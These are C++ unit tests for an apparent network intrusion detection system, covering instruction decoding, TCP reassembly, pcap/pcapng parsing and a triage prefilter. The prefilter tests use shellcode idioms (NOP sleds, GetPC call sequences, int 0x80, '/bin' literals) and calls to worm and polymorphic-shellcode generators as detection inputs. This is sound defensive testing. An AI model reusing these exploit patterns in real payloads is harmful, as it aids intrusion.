TEST(Decoder, NeverCrashesOnArbitraryBytes) {
  // Exhaustive two-byte fuzz: every (first, second) combination.
  Bytes buf(8, 0x00);
  for (int a = 0; a < 256; ++a) {
    for (int b = 0; b < 256; ++b) {
      buf[0] = static_cast<std::uint8_t>(a);
      buf[1] = static_cast<std::uint8_t>(b);
      Instruction insn = decode(buf, 0);
      if (insn.valid()) {
        EXPECT_GE(insn.length, 1);
        EXPECT_LE(insn.length, buf.size());
      } else {
        EXPECT_LE(insn.length, 1);
      }
    }
  }
}

TEST(LinearSweep, StopsAtInvalid) {
  Bytes code{0x90, 0x40, 0xD8, 0x90};  // nop, inc eax, (bad), nop
  auto insns = linear_sweep(code);
  ASSERT_EQ(insns.size(), 2u);
  EXPECT_EQ(insns[1].mnemonic, Mnemonic::kInc);
}

TEST(LinearSweep, RespectsMaxCount) {
  Bytes code(100, 0x90);
  EXPECT_EQ(linear_sweep(code, 0, 10).size(), 10u);
}

TEST(LinearSweep, OffsetsAreCumulative) {
  Bytes code{0xB8, 1, 0, 0, 0, 0x40, 0x90};
  auto insns = linear_sweep(code);
  ASSERT_EQ(insns.size(), 3u);
  EXPECT_EQ(insns[0].offset, 0u);
  EXPECT_EQ(insns[1].offset, 5u);
  EXPECT_EQ(insns[2].offset, 6u);
}

// ------------------------------------------------------------ def/use

TEST(DefUse, MovRegReg) {
  DefUse du = def_use(decode_bytes({0x89, 0xD8}));  // mov eax, ebx
  EXPECT_TRUE(du.defs.contains(kEax));
  EXPECT_FALSE(du.defs.contains(kEbx));
  EXPECT_TRUE(du.uses.contains(kEbx));
  EXPECT_FALSE(du.uses.contains(kEax));
}

TEST(DefUse, XorIsReadModifyWrite) {
  DefUse du = def_use(decode_bytes({0x31, 0xD8}));  // xor eax, ebx
  EXPECT_TRUE(du.defs.contains(kEax));
  EXPECT_TRUE(du.uses.contains(kEax));
  EXPECT_TRUE(du.uses.contains(kEbx));
  EXPECT_TRUE(du.flags_def);
}

TEST(DefUse, MemOperandTouchesAddressRegs) {
  DefUse du = def_use(decode_bytes({0x80, 0x30, 0x95}));  // xor byte [eax], imm
  EXPECT_TRUE(du.uses.contains(kEax));
  EXPECT_TRUE(du.mem_read);
  EXPECT_TRUE(du.mem_write);
}

TEST(DefUse, PushUsesStack) {
  DefUse du = def_use(decode_bytes({0x53}));  // push ebx
  EXPECT_TRUE(du.uses.contains(kEbx));
  EXPECT_TRUE(du.defs.contains(kEsp));
  EXPECT_TRUE(du.mem_write);
}

TEST(DefUse, IntReadsEverythingDefinesEax) {
  DefUse du = def_use(decode_bytes({0xCD, 0x80}));
  EXPECT_EQ(du.uses.raw(), RegSet::all().raw());
  EXPECT_TRUE(du.defs.contains(kEax));
  EXPECT_TRUE(du.side_effect);
}

TEST(DefUse, LoopTouchesEcx) {
  DefUse du = def_use(decode_bytes({0xE2, 0xF0}));
  EXPECT_TRUE(du.defs.contains(kEcx));
  EXPECT_TRUE(du.uses.contains(kEcx));
  EXPECT_TRUE(du.side_effect);
}

TEST(DefUse, LeaDoesNotTouchMemory) {
  DefUse du = def_use(decode_bytes({0x8D, 0x46, 0x01}));  // lea eax, [esi+1]
  EXPECT_TRUE(du.defs.contains(kEax));
  EXPECT_TRUE(du.uses.contains(kEsi));
  EXPECT_FALSE(du.mem_read);
  EXPECT_FALSE(du.mem_write);
}

TEST(DefUse, SubRegisterAliasesFamily) {
  DefUse du = def_use(decode_bytes({0xB3, 0x01}));  // mov bl, 1
  EXPECT_TRUE(du.defs.contains(kEbx));
}

TEST(RegSet, Operations) {
  RegSet s;
  EXPECT_TRUE(s.empty());
  s.add(kEax);
  s.add(kEbx);
  EXPECT_TRUE(s.contains(kEax));
  EXPECT_FALSE(s.contains(kEcx));
  RegSet t;
  t.add(kEcx);
  EXPECT_FALSE(s.intersects(t));
  t.add(kEax);
  EXPECT_TRUE(s.intersects(t));
  EXPECT_EQ(s.str(), "eax,ebx");
}

}  // namespace
}  // namespace senids::arch
