#include <gtest/gtest.h>

#include "net/headers.hpp"
#include "net/reassembly.hpp"

namespace senids::net {
namespace {

util::Bytes bytes(std::string_view s) { return util::to_bytes(s); }

TEST(Reassembly, InOrderDelivery) {
  TcpReassembler r;
  r.feed(100, kTcpSyn, {});
  r.feed(101, kTcpAck, bytes("hello "));
  r.feed(107, kTcpAck, bytes("world"));
  EXPECT_EQ(util::to_string(r.stream()), "hello world");
  EXPECT_EQ(r.buffered(), 0u);
  EXPECT_FALSE(r.closed());
}

TEST(Reassembly, OutOfOrderSegmentsReordered) {
  TcpReassembler r;
  r.feed(1000, kTcpSyn, {});
  r.feed(1007, kTcpAck, bytes("world"));   // arrives early
  EXPECT_EQ(r.stream().size(), 0u);
  EXPECT_EQ(r.buffered(), 5u);
  r.feed(1001, kTcpAck, bytes("hello "));  // gap fill
  EXPECT_EQ(util::to_string(r.stream()), "hello world");
  EXPECT_EQ(r.buffered(), 0u);
}

TEST(Reassembly, ThreeWayReorder) {
  TcpReassembler r;
  r.feed(10, 0, bytes("AA"));    // anchors at 10
  r.feed(16, 0, bytes("CC"));
  r.feed(14, 0, bytes("BB"));
  r.feed(12, 0, bytes("ab"));
  EXPECT_EQ(util::to_string(r.stream()), "AAabBBCC");
}

TEST(Reassembly, DuplicateSegmentIgnored) {
  TcpReassembler r;
  r.feed(1, 0, bytes("abc"));
  r.feed(1, 0, bytes("abc"));  // exact retransmission
  EXPECT_EQ(util::to_string(r.stream()), "abc");
}

TEST(Reassembly, OverlappingRetransmissionTrimmed) {
  TcpReassembler r;
  r.feed(1, 0, bytes("abcdef"));
  r.feed(4, 0, bytes("defGHI"));  // overlaps 3 delivered bytes
  EXPECT_EQ(util::to_string(r.stream()), "abcdefGHI");
}

TEST(Reassembly, FullyStaleSegmentDropped) {
  TcpReassembler r;
  r.feed(1, 0, bytes("abcdef"));
  r.feed(2, 0, bytes("bcd"));  // entirely behind the delivery point
  EXPECT_EQ(util::to_string(r.stream()), "abcdef");
}

TEST(Reassembly, SynConsumesSequenceNumber) {
  TcpReassembler r;
  r.feed(500, kTcpSyn, {});
  r.feed(501, 0, bytes("x"));
  EXPECT_EQ(util::to_string(r.stream()), "x");
}

TEST(Reassembly, MidStreamAnchorWithoutSyn) {
  TcpReassembler r;
  r.feed(777, 0, bytes("later"));
  EXPECT_EQ(util::to_string(r.stream()), "later");
}

TEST(Reassembly, FinClosesInOrder) {
  TcpReassembler r;
  r.feed(1, kTcpSyn, {});
  r.feed(2, 0, bytes("data"));
  EXPECT_FALSE(r.closed());
  r.feed(6, kTcpFin, {});
  EXPECT_TRUE(r.closed());
}

TEST(Reassembly, RstCloses) {
  TcpReassembler r;
  r.feed(1, 0, bytes("d"));
  r.feed(2, kTcpRst, {});
  EXPECT_TRUE(r.closed());
}

TEST(Reassembly, DataIgnoredAfterClose) {
  TcpReassembler r;
  r.feed(1, 0, bytes("a"));
  r.feed(2, kTcpFin, {});
  r.feed(3, 0, bytes("zzz"));
  EXPECT_EQ(util::to_string(r.stream()), "a");
}

TEST(Reassembly, EarlyFinWaitsForGap) {
  // FIN ahead of a hole must not close the stream.
  TcpReassembler r;
  r.feed(1, kTcpSyn, {});
  r.feed(10, kTcpFin, {});  // sequence far ahead
  EXPECT_FALSE(r.closed());
}

TEST(Reassembly, BufferCapForcesGapClose) {
  TcpReassembler r(/*max_buffered=*/8);
  r.feed(1, 0, bytes("A"));       // delivered, next = 2
  r.feed(100, 0, bytes("ABCDEFGHIJ"));  // 10 parked bytes > cap: gap forced
  EXPECT_EQ(util::to_string(r.stream()), "AABCDEFGHIJ");
  EXPECT_EQ(r.buffered(), 0u);
}

TEST(Reassembly, SequenceWraparound) {
  TcpReassembler r;
  const std::uint32_t near_max = 0xFFFFFFFEu;
  r.feed(near_max, 0, bytes("ab"));   // occupies fffffffe, ffffffff
  r.feed(0, 0, bytes("cd"));          // wraps to 0
  EXPECT_EQ(util::to_string(r.stream()), "abcd");
}

TEST(Reassembly, OutOfOrderFinClosesAfterDrain) {
  // A FIN buffered ahead of a hole must close the stream as soon as the
  // gap fill catches delivery up to it, not wait for end-of-capture.
  TcpReassembler r;
  r.feed(1, kTcpSyn, {});
  r.feed(8, kTcpFin, {});          // FIN ahead of a hole: remembered
  EXPECT_FALSE(r.closed());
  r.feed(2, 0, bytes("abcdef"));   // gap fill; delivery reaches the FIN
  EXPECT_TRUE(r.closed());
  EXPECT_EQ(util::to_string(r.stream()), "abcdef");
}

TEST(Reassembly, BufferedFinSegmentWithPayloadCloses) {
  TcpReassembler r;
  r.feed(1, kTcpSyn, {});
  r.feed(8, kTcpFin, bytes("end"));  // out-of-order data carrying the FIN
  EXPECT_FALSE(r.closed());
  EXPECT_EQ(r.buffered(), 3u);
  r.feed(2, 0, bytes("abcdef"));     // drain delivers through the FIN
  EXPECT_TRUE(r.closed());
  EXPECT_EQ(util::to_string(r.stream()), "abcdefend");
}

TEST(Reassembly, OutOfOrderRstCloses) {
  TcpReassembler r;
  r.feed(10, 0, bytes("AB"));        // anchors at 10, next = 12
  r.feed(20, kTcpRst, {});           // ahead of the hole
  EXPECT_FALSE(r.closed());
  r.feed(12, 0, bytes("12345678"));  // fills up to 20
  EXPECT_TRUE(r.closed());
}

TEST(Reassembly, StreamCapTruncatesLongFlow) {
  TcpReassembler r(/*max_buffered=*/1 << 20, /*max_stream=*/8);
  r.feed(1, 0, bytes("abcdef"));
  EXPECT_FALSE(r.truncated());
  r.feed(7, 0, bytes("ghijkl"));   // crosses the cap mid-segment
  EXPECT_TRUE(r.truncated());
  EXPECT_EQ(util::to_string(r.stream()), "abcdefgh");
  r.feed(13, 0, bytes("mnopqr"));  // dropped; sequence still tracked
  EXPECT_EQ(r.stream().size(), 8u);
}

TEST(Reassembly, TruncatedFlowStillDetectsClose) {
  TcpReassembler r(1 << 20, /*max_stream=*/4);
  r.feed(1, 0, bytes("abcdefgh"));
  EXPECT_TRUE(r.truncated());
  r.feed(9, kTcpFin, {});  // sequence tracking survived the truncation
  EXPECT_TRUE(r.closed());
}

TEST(Reassembly, TakeStreamMovesBytesOut) {
  TcpReassembler r;
  r.feed(1, 0, bytes("payload"));
  const util::Bytes s = r.take_stream();
  EXPECT_EQ(util::to_string(s), "payload");
  EXPECT_TRUE(r.stream().empty());
}

TEST(Reassembly, LargeTransferInChunks) {
  TcpReassembler r;
  std::string expected;
  std::uint32_t seq = 1;
  for (int i = 0; i < 100; ++i) {
    std::string chunk(97, static_cast<char>('a' + i % 26));
    r.feed(seq, 0, util::to_bytes(chunk));
    seq += static_cast<std::uint32_t>(chunk.size());
    expected += chunk;
  }
  EXPECT_EQ(util::to_string(r.stream()), expected);
}

}  // namespace
}  // namespace senids::net
