#include <gtest/gtest.h>

#include <cstdio>

#include "pcap/pcap.hpp"

namespace senids::pcap {
namespace {

Capture sample_capture() {
  Capture cap;
  cap.add(100, 5, util::to_bytes("hello"));
  cap.add(100, 900000, util::to_bytes("world!"));
  cap.add(101, 1, util::Bytes{});
  return cap;
}

TEST(Pcap, SerializeParseRoundTrip) {
  Capture cap = sample_capture();
  auto parsed = parse(serialize(cap));
  ASSERT_TRUE(parsed.has_value());
  ASSERT_EQ(parsed->records.size(), 3u);
  EXPECT_EQ(parsed->records[0].ts_sec, 100u);
  EXPECT_EQ(parsed->records[0].ts_usec, 5u);
  EXPECT_EQ(util::to_string(parsed->records[1].data), "world!");
  EXPECT_TRUE(parsed->records[2].data.empty());
  EXPECT_EQ(parsed->header.linktype, kLinkEthernet);
  EXPECT_EQ(parsed->header.version_major, 2);
  EXPECT_EQ(parsed->header.version_minor, 4);
}

TEST(Pcap, HeaderFieldsSurvive) {
  Capture cap;
  cap.header.snaplen = 1234;
  cap.header.linktype = 101;  // raw IP
  auto parsed = parse(serialize(cap));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->header.snaplen, 1234u);
  EXPECT_EQ(parsed->header.linktype, 101u);
}

TEST(Pcap, OrigLenPreserved) {
  Capture cap;
  Record r;
  r.ts_sec = 1;
  r.data = util::to_bytes("snap");
  r.orig_len = 1500;  // snapped record: captured < original
  cap.records.push_back(r);
  auto parsed = parse(serialize(cap));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->records[0].orig_len, 1500u);
  EXPECT_EQ(parsed->records[0].data.size(), 4u);
}

TEST(Pcap, RejectsBadMagic) {
  util::Bytes junk(64, 0xAB);
  EXPECT_FALSE(parse(junk).has_value());
}

TEST(Pcap, RejectsShortHeader) {
  util::Bytes data = serialize(sample_capture());
  data.resize(10);
  EXPECT_FALSE(parse(data).has_value());
}

TEST(Pcap, DropsTruncatedTailRecord) {
  util::Bytes data = serialize(sample_capture());
  data.resize(data.size() - 3);  // cut into the last record's payload
  auto parsed = parse(data);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->records.size(), 2u);
}

TEST(Pcap, ParsesByteSwappedCapture) {
  // Hand-build a big-endian header + one record.
  util::Bytes data;
  util::put_u32be(data, kMagicLe);
  util::put_u16be(data, 2);
  util::put_u16be(data, 4);
  util::put_u32be(data, 0);
  util::put_u32be(data, 0);
  util::put_u32be(data, 65535);
  util::put_u32be(data, kLinkEthernet);
  util::put_u32be(data, 7);   // ts_sec
  util::put_u32be(data, 8);   // ts_usec
  util::put_u32be(data, 2);   // incl_len
  util::put_u32be(data, 2);   // orig_len
  data.push_back('h');
  data.push_back('i');
  auto parsed = parse(data);
  ASSERT_TRUE(parsed.has_value());
  ASSERT_EQ(parsed->records.size(), 1u);
  EXPECT_EQ(parsed->records[0].ts_sec, 7u);
  EXPECT_EQ(util::to_string(parsed->records[0].data), "hi");
  EXPECT_EQ(parsed->header.linktype, kLinkEthernet);
}

TEST(Pcap, FileRoundTrip) {
  const std::string path = ::testing::TempDir() + "senids_pcap_test.pcap";
  Capture cap = sample_capture();
  ASSERT_TRUE(write_file(path, cap));
  auto loaded = read_file(path);
  ASSERT_TRUE(loaded.has_value());
  EXPECT_EQ(loaded->records.size(), 3u);
  std::remove(path.c_str());
}

TEST(Pcap, ReadMissingFileFails) {
  EXPECT_FALSE(read_file("/nonexistent/dir/file.pcap").has_value());
}

TEST(Pcap, EmptyCaptureRoundTrip) {
  Capture cap;
  auto parsed = parse(serialize(cap));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_TRUE(parsed->records.empty());
}

}  // namespace
}  // namespace senids::pcap
