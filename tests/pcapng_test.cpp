// pcapng reader: hand-built captures in both byte orders, block skipping,
// and auto-detection through parse_any / read_file.
#include <gtest/gtest.h>

#include "pcap/pcap.hpp"

namespace senids::pcap {
namespace {

using util::Bytes;

/// Minimal pcapng writer for tests (little-endian unless `be`).
class NgWriter {
 public:
  explicit NgWriter(bool be = false) : be_(be) {}

  void u32(std::uint32_t v) {
    if (be_) {
      util::put_u32be(out_, v);
    } else {
      util::put_u32le(out_, v);
    }
  }

  void block(std::uint32_t type, const Bytes& body) {
    const std::uint32_t len =
        static_cast<std::uint32_t>(12 + ((body.size() + 3) & ~std::size_t{3}));
    u32(type);
    u32(len);
    out_.insert(out_.end(), body.begin(), body.end());
    while (out_.size() % 4 != 0) out_.push_back(0);
    u32(len);
  }

  void shb() {
    Bytes body;
    auto put = [&](std::uint32_t v) {
      if (be_) {
        util::put_u32be(body, v);
      } else {
        util::put_u32le(body, v);
      }
    };
    put(0x1A2B3C4D);          // byte-order magic
    put(0x00010000);          // version 1.0 (major minor as u16s)
    put(0xFFFFFFFF);          // section length unknown
    put(0xFFFFFFFF);
    block(0x0A0D0D0A, body);
  }

  void idb(std::uint32_t linktype, std::uint32_t snaplen) {
    Bytes body;
    auto put = [&](std::uint32_t v) {
      if (be_) {
        util::put_u32be(body, v);
      } else {
        util::put_u32le(body, v);
      }
    };
    put(linktype & 0xffff);  // linktype + reserved
    put(snaplen);
    block(0x00000001, body);
  }

  void epb(std::uint64_t ts_usec, const Bytes& pkt) {
    Bytes body;
    auto put = [&](std::uint32_t v) {
      if (be_) {
        util::put_u32be(body, v);
      } else {
        util::put_u32le(body, v);
      }
    };
    put(0);                                          // interface id
    put(static_cast<std::uint32_t>(ts_usec >> 32));  // ts high
    put(static_cast<std::uint32_t>(ts_usec));        // ts low
    put(static_cast<std::uint32_t>(pkt.size()));     // captured
    put(static_cast<std::uint32_t>(pkt.size()));     // original
    body.insert(body.end(), pkt.begin(), pkt.end());
    block(0x00000006, body);
  }

  void unknown_block() { block(0x0BADBEEF, Bytes{1, 2, 3, 4}); }

  [[nodiscard]] const Bytes& bytes() const { return out_; }

 private:
  bool be_;
  Bytes out_;
};

TEST(Pcapng, ParsesEnhancedPacketBlocks) {
  NgWriter w;
  w.shb();
  w.idb(kLinkEthernet, 65535);
  w.epb(5 * 1000000 + 42, util::to_bytes("hello"));
  w.epb(6 * 1000000 + 7, util::to_bytes("worldly"));
  auto cap = parse_pcapng(w.bytes());
  ASSERT_TRUE(cap.has_value());
  EXPECT_EQ(cap->header.linktype, kLinkEthernet);
  ASSERT_EQ(cap->records.size(), 2u);
  EXPECT_EQ(cap->records[0].ts_sec, 5u);
  EXPECT_EQ(cap->records[0].ts_usec, 42u);
  EXPECT_EQ(util::to_string(cap->records[0].data), "hello");
  EXPECT_EQ(util::to_string(cap->records[1].data), "worldly");
}

TEST(Pcapng, BigEndianSection) {
  NgWriter w(/*be=*/true);
  w.shb();
  w.idb(kLinkEthernet, 1000);
  w.epb(1000000, util::to_bytes("be"));
  auto cap = parse_pcapng(w.bytes());
  ASSERT_TRUE(cap.has_value());
  ASSERT_EQ(cap->records.size(), 1u);
  EXPECT_EQ(cap->records[0].ts_sec, 1u);
  EXPECT_EQ(util::to_string(cap->records[0].data), "be");
}

TEST(Pcapng, SkipsUnknownBlocks) {
  NgWriter w;
  w.shb();
  w.unknown_block();
  w.idb(kLinkEthernet, 65535);
  w.unknown_block();
  w.epb(0, util::to_bytes("x"));
  auto cap = parse_pcapng(w.bytes());
  ASSERT_TRUE(cap.has_value());
  EXPECT_EQ(cap->records.size(), 1u);
}

TEST(Pcapng, RejectsNonPcapng) {
  Bytes junk(64, 0x42);
  EXPECT_FALSE(parse_pcapng(junk).has_value());
  Capture classic;
  classic.add(1, 2, util::to_bytes("pkt"));
  EXPECT_FALSE(parse_pcapng(serialize(classic)).has_value());
}

TEST(Pcapng, ToleratesTruncation) {
  NgWriter w;
  w.shb();
  w.idb(kLinkEthernet, 65535);
  w.epb(0, util::to_bytes("complete"));
  Bytes data = w.bytes();
  NgWriter w2;
  w2.epb(0, util::to_bytes("cut"));
  Bytes extra = w2.bytes();
  data.insert(data.end(), extra.begin(), extra.begin() + 10);  // partial block
  auto cap = parse_pcapng(data);
  ASSERT_TRUE(cap.has_value());
  EXPECT_EQ(cap->records.size(), 1u);
}

TEST(Pcapng, ParseAnyAutoDetects) {
  NgWriter w;
  w.shb();
  w.idb(kLinkEthernet, 65535);
  w.epb(0, util::to_bytes("ng"));
  auto ng = parse_any(w.bytes());
  ASSERT_TRUE(ng.has_value());
  EXPECT_EQ(ng->records.size(), 1u);

  Capture classic;
  classic.add(9, 9, util::to_bytes("old"));
  auto old = parse_any(serialize(classic));
  ASSERT_TRUE(old.has_value());
  EXPECT_EQ(old->records.size(), 1u);
}

TEST(Pcapng, ReadFileAutoDetects) {
  const std::string path = ::testing::TempDir() + "senids_ng_test.pcapng";
  NgWriter w;
  w.shb();
  w.idb(kLinkEthernet, 65535);
  w.epb(3000000, util::to_bytes("file"));
  {
    std::FILE* f = std::fopen(path.c_str(), "wb");
    ASSERT_NE(f, nullptr);
    std::fwrite(w.bytes().data(), 1, w.bytes().size(), f);
    std::fclose(f);
  }
  auto cap = read_file(path);
  ASSERT_TRUE(cap.has_value());
  ASSERT_EQ(cap->records.size(), 1u);
  EXPECT_EQ(cap->records[0].ts_sec, 3u);
  std::remove(path.c_str());
}

TEST(Pcapng, MultipleSectionsConcatenate) {
  NgWriter w;
  w.shb();
  w.idb(kLinkEthernet, 65535);
  w.epb(0, util::to_bytes("s1"));
  w.shb();  // second section
  w.idb(kLinkEthernet, 65535);
  w.epb(0, util::to_bytes("s2"));
  auto cap = parse_pcapng(w.bytes());
  ASSERT_TRUE(cap.has_value());
  EXPECT_EQ(cap->records.size(), 2u);
}

}  // namespace
}  // namespace senids::pcap
