// Unit tests for the stage-0 triage prefilter: each screen probe in
// isolation (run statistics, GetPC idiom, template-literal automaton,
// PAYL spectrum), the escalation edge cases (empty unit, max-size unit,
// high-entropy benign data), the escalation guarantees over every attack
// generator, the <10% benign escalation budget, and the engine-level
// counter agreement (screened == escalated + rejected, and the verdict
// cache only ever sees escalated units).
#include <gtest/gtest.h>

#include <memory>
#include <vector>

#include "anomaly/payl.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "semantic/library.hpp"
#include "triage/triage.hpp"
#include "util/prng.hpp"

namespace senids::triage {
namespace {

using util::ByteView;
using util::Bytes;

TriageOptions on_options() {
  TriageOptions options;
  options.mode = TriageMode::kOn;
  return options;
}

TriageFilter make_filter(TriageOptions options = on_options(),
                         extract::ExtractorOptions extractor = {}) {
  return TriageFilter(std::move(options), extractor, semantic::make_standard_library());
}

std::string reason(const TriageDecision& d) {
  return std::string(triage_reason_name(d.reason));
}

Bytes text(std::string_view s) { return Bytes(s.begin(), s.end()); }

void append(Bytes& out, std::string_view s) { out.insert(out.end(), s.begin(), s.end()); }

// ------------------------------------------------------------ raw probes

TEST(Triage, EmptyUnitRejected) {
  const TriageFilter f = make_filter();
  const TriageDecision d = f.screen({});
  EXPECT_FALSE(d.escalate);
  EXPECT_EQ(reason(d), "empty-unit");
}

TEST(Triage, PlainTextRejectedAsNoFramesPossible) {
  const TriageFilter f = make_filter();
  const TriageDecision d = f.screen(util::as_bytes(
      "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\n"
      "Accept: text/html,*/*\r\nConnection: keep-alive\r\n\r\n"));
  EXPECT_FALSE(d.escalate);
  EXPECT_EQ(reason(d), "no-frames-possible");
}

TEST(Triage, RepetitionRunEscalates) {
  // An overflow-filler run (>= min_repetition identical bytes) that does
  // not reach the payload end is exactly what longest_repetition frames.
  const TriageFilter f = make_filter();
  Bytes payload(40, std::uint8_t{0x07});
  payload.push_back('!');
  const TriageDecision d = f.screen(payload);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "repetition-run");
}

TEST(Triage, RepetitionRunAtPayloadEndIsNotAFrame) {
  // The extractor refuses a repetition frame that extends to the final
  // byte (overflow fillers precede a payload); the screen must mirror
  // that or it would escalate every zero-padded unit.
  const TriageFilter f = make_filter();
  const Bytes payload(40, std::uint8_t{0x07});
  const TriageDecision d = f.screen(payload);
  EXPECT_FALSE(d.escalate);
  // 0x07 is neither printable nor NOP-like: the run is a binary region,
  // i.e. a data-shaped frame with no code evidence.
  EXPECT_EQ(reason(d), "data-no-code-evidence");
}

TEST(Triage, NopSledEscalates) {
  // Alternating NOP-like bytes (0x40..0x5f) below the repetition
  // threshold: only the sled probe can fire.
  const TriageFilter f = make_filter();
  Bytes payload = text("some text then ");
  for (int i = 0; i < 8; ++i) {
    payload.push_back(0x41);
    payload.push_back(0x4f);
  }
  const TriageDecision d = f.screen(payload);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "nop-sled");
}

TEST(Triage, SledBelowThresholdRejected) {
  const TriageFilter f = make_filter();
  Bytes payload = text("run: ");
  for (int i = 0; i < 11; ++i) payload.push_back(static_cast<std::uint8_t>(0x40 + i));
  payload.push_back('.');
  const TriageDecision d = f.screen(payload);
  EXPECT_FALSE(d.escalate);
  EXPECT_EQ(reason(d), "no-frames-possible");
}

TEST(Triage, GetPcCallEscalates) {
  const TriageFilter f = make_filter();
  // call -12: the classic jmp/call/pop GetPC displacement.
  const Bytes payload = {'p', 'a', 'd', 0xE8, 0xF4, 0xFF, 0xFF, 0xFF, 'p', 'a', 'd'};
  const TriageDecision d = f.screen(payload);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "getpc-code");
}

TEST(Triage, HasGetPcCodeProbe) {
  EXPECT_TRUE(has_getpc_code(Bytes{0xE8, 0x00, 0x00, 0x00, 0x00}));       // call +0
  EXPECT_TRUE(has_getpc_code(Bytes{0xE8, 0xF4, 0xFF, 0xFF, 0xFF}));       // call -12
  EXPECT_TRUE(has_getpc_code(Bytes{0xE8, 0x00, 0x10, 0x00, 0x00}));       // call +0x1000
  EXPECT_FALSE(has_getpc_code(Bytes{0xE8, 0x01, 0x10, 0x00, 0x00}));      // just past
  EXPECT_FALSE(has_getpc_code(Bytes{0xE8, 0x00, 0x00, 0x10, 0x00}));      // megabytes away
  EXPECT_FALSE(has_getpc_code(Bytes{0xE8, 0xF4, 0xFF}));                  // truncated
  EXPECT_TRUE(has_getpc_code(Bytes{0xD9, 0x74, 0x24, 0xF4}));             // fnstenv [esp-12]
  EXPECT_FALSE(has_getpc_code(Bytes{0xD9, 0x74, 0x24, 0xF0}));
  EXPECT_FALSE(has_getpc_code({}));
}

TEST(Triage, ReturnRegionEscalates) {
  // Repeated plausible return-address dwords, little-endian, preceded by
  // non-address bytes so the region starts past offset 0.
  const TriageFilter f = make_filter();
  Bytes payload = text("prefix ");
  for (int i = 0; i < 8; ++i) {
    payload.push_back(0x00);
    payload.push_back(0xf0);
    payload.push_back(0xff);
    payload.push_back(0xbf);  // 0xbffff000, the classic stack address
  }
  const TriageDecision d = f.screen(payload);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "return-region");
}

TEST(Triage, TemplateLiteralEscalates) {
  const TriageFilter f = make_filter();
  EXPECT_GT(f.literal_count(), 0u);
  // int 0x80 — the syscall byte pair every execve template needs.
  const TriageDecision d = f.screen(Bytes{'x', 0xCD, 0x80, 'y'});
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "literal-match");
  // "/bin" — the ebx_points_to string and kFixedConst immediate.
  const TriageDecision d2 = f.screen(util::as_bytes("exec /bin maybe"));
  EXPECT_TRUE(d2.escalate);
  EXPECT_EQ(reason(d2), "literal-match");
}

TEST(Triage, TemplateLiteralsFromStandardLibrary) {
  const auto lits = template_literals(semantic::make_standard_library());
  auto has = [&](const Bytes& needle) {
    for (const Bytes& l : lits) {
      if (l == needle) return true;
    }
    return false;
  };
  EXPECT_TRUE(has(Bytes{0x2f, 0x62, 0x69, 0x6e}));  // "/bin" (LE 0x6e69622f)
  EXPECT_TRUE(has(Bytes{0xCD, 0x80}));              // int 0x80
  EXPECT_TRUE(has(Bytes{0xd3, 0xcb, 0x01, 0x78}));  // zlib-magic fixed const
  // Deduplicated: every literal appears once.
  for (std::size_t i = 1; i < lits.size(); ++i) EXPECT_NE(lits[i - 1], lits[i]);
}

// ------------------------------------------------ decode-then-screen

TEST(Triage, PercentEscapedCodeEscalatesAfterDecode) {
  // %XX escapes hiding a GetPC call: the raw bytes carry no probe hit,
  // the decoded bytes do. (decode_u_escapes handles %XX and %uXXXX.)
  const TriageFilter f = make_filter();
  Bytes payload = text("GET /a?x=");
  for (int i = 0; i < 2; ++i) append(payload, "%E8%F4%FF%FF%FF");
  append(payload, " HTTP/1.0");
  const TriageDecision d = f.screen(payload);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "decoded-code-evidence");
}

TEST(Triage, PercentEscapedDataRejected) {
  // The same shape, but the escapes decode to inert text bytes: a
  // data-shaped unicode frame with no code evidence.
  const TriageFilter f = make_filter();
  Bytes payload = text("GET /a?x=");
  for (int i = 0; i < 10; ++i) append(payload, "%61%62%63");
  append(payload, " HTTP/1.0");
  const TriageDecision d = f.screen(payload);
  EXPECT_FALSE(d.escalate);
  EXPECT_EQ(reason(d), "data-no-code-evidence");
}

TEST(Triage, Base64WrappedShellcodeEscalatesAfterDecode) {
  // A mail-worm shaped unit: polymorphic shellcode only visible after
  // base64 decoding. The screen must decode exactly as the extractor
  // would and find the GetPC/sled evidence inside.
  util::Prng prng(77);
  const TriageFilter f = make_filter();
  for (int i = 0; i < 4; ++i) {
    const gen::MailWormSample worm = gen::make_email_worm(prng);
    const TriageDecision d = f.screen(worm.smtp_payload);
    EXPECT_TRUE(d.escalate) << reason(d);
  }
}

// ------------------------------------------------------ edge cases

TEST(Triage, MaxSizeUnitHandled) {
  // A 1 MB unit of one repeated byte: the identical run reaches the
  // payload end, so no repetition frame is possible; 0x00 is neither
  // printable nor NOP-like, so the run is one giant binary region.
  const TriageFilter f = make_filter();
  Bytes payload(1u << 20, std::uint8_t{0x00});
  const TriageDecision d = f.screen(payload);
  EXPECT_FALSE(d.escalate);
  EXPECT_EQ(reason(d), "data-no-code-evidence");

  // One trailing byte converts it into a frameable filler run.
  payload.push_back('X');
  const TriageDecision d2 = f.screen(payload);
  EXPECT_TRUE(d2.escalate);
  EXPECT_EQ(reason(d2), "repetition-run");
}

TEST(Triage, HighEntropyBenignDataRejected) {
  // gzip- and JPEG-shaped payloads (magic + uniform random bytes) are
  // data-shaped frames; with no embedded code the screen rejects them.
  // Fixed seeds keep the corpus free of coincidental GetPC/literal hits.
  const TriageFilter f = make_filter();
  util::Prng prng(4242);
  std::size_t rejected = 0;
  constexpr std::size_t kSamples = 32;
  for (std::size_t i = 0; i < kSamples; ++i) {
    Bytes payload = (i % 2) ? Bytes{0x1f, 0x8b, 0x08, 0x00} : Bytes{0xff, 0xd8};
    const Bytes noise = prng.bytes(1024);
    payload.insert(payload.end(), noise.begin(), noise.end());
    const TriageDecision d = f.screen(payload);
    if (!d.escalate) {
      EXPECT_EQ(reason(d), "data-no-code-evidence");
      ++rejected;
    }
  }
